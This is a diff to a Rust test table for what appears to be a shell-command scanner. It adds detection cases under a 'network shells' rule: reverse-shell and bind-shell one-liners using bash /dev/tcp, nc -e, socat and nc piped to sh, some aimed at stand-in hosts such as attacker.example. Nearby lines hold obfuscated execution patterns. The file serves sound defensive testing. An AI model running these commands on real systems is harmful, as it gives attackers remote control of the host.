@@ -451,6 +451,13 @@ const COMMAND_TABLE: &[(&str, &[&str])] = &[
     ("xxd -r -p hex.txt | sh", &["CMD019"]),
     ("eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"", &["CMD019"]),
     ("echo aGk= | base64 -d", NONE),
+    // --- CMD021 network shells
+    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", &["CMD021"]),
+    ("nc -e /bin/sh 203.0.113.7 4444", &["CMD021"]),
+    ("socat TCP-LISTEN:4444,fork EXEC:/bin/bash", &["CMD021"]),
+    ("nc attacker.example 80 | sh", &["CMD021"]),
+    ("timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'", NONE),
+    ("nc -z localhost 5432", NONE),
     // --- everyday commands
     ("git status", NONE),
     ("npm install", NONE),
